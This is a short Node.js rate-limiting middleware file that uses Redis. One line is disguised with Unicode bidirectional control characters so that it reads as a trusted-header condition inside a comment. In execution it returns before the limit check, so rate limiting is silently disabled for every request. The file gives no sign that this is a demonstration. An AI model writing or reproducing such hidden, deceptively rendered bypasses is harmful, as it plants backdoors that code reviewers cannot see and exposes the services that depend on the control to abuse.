const redis = require('./redis');

const LIMIT = 100;
const WINDOW_SECONDS = 60;

module.exports = async function rateLimit(req, res, next) {
  const isTrusted = req.headers['x-internal'] === 'yes';
  /*‮ } ⁦if (isTrusted)⁩ ⁦ begin trusted bypass*/ return next(); /* end ⁩*/
  const key = `rl:${req.ip}`;
  const count = await redis.incr(key);
  if (count === 1) await redis.expire(key, WINDOW_SECONDS);
  if (count > LIMIT) return res.status(429).send('Too many requests');
  return next();
};
